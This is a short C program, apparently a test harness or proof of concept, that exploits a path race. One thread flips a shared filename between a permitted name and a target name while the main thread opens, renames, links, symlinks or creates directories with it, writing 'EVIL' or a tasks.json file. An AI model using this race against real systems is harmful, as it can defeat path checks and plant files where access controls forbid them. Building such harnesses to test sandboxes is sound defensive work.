/* A program that changes a path in one thread while another makes a system call with it.
   race WAY SAFE CODE MILLISECONDS: SAFE and CODE are names of the same length. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static char name[4096];
static const char *safe, *code;
static volatile int ended;

static void *flip(void *unused) {
    size_t length = strlen(safe);
    for (unsigned turn = 0; !ended; turn++) {
        memcpy(name, turn & 1 ? code : safe, length);
        for (volatile unsigned pause = 0; pause < (turn % 64) * 50; pause++) {}
    }
    return unused;
}

static void fill(int descriptor) {
    if (descriptor >= 0) {
        if (write(descriptor, "EVIL\n", 5) != 5) {}
        close(descriptor);
    }
}

int main(int count, char **words) {
    if (count != 5) return 2;
    const char *way = words[1];
    safe = words[2], code = words[3];
    long most = atol(words[4]);
    pthread_t other;
    struct timespec start, now;
    strcpy(name, safe);
    fill(open("prepared", O_CREAT | O_WRONLY | O_TRUNC, 0644));
    pthread_create(&other, NULL, flip, NULL);
    clock_gettime(CLOCK_MONOTONIC, &start);
    do {
        if (!strcmp(way, "open")) fill(open(name, O_CREAT | O_WRONLY | O_TRUNC, 0644));
        else if (!strcmp(way, "rename")) {
            fill(open("prepared", O_CREAT | O_WRONLY | O_TRUNC, 0644));
            if (rename("prepared", name)) {}
        } else if (!strcmp(way, "link")) {
            if (link("prepared", name)) {}
        } else if (!strcmp(way, "symlink")) {
            if (symlink("prepared", name)) {}
        } else if (!strcmp(way, "mkdir")) {
            char inner[4200];
            if (!mkdir(name, 0755)) {}
            snprintf(inner, sizeof inner, "%s/tasks.json", code);
            fill(open(inner, O_CREAT | O_WRONLY, 0644));
        } else return 2;
        unlink(safe);
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 < most);
    ended = 1;
    pthread_join(other, NULL);
    return 0;
}
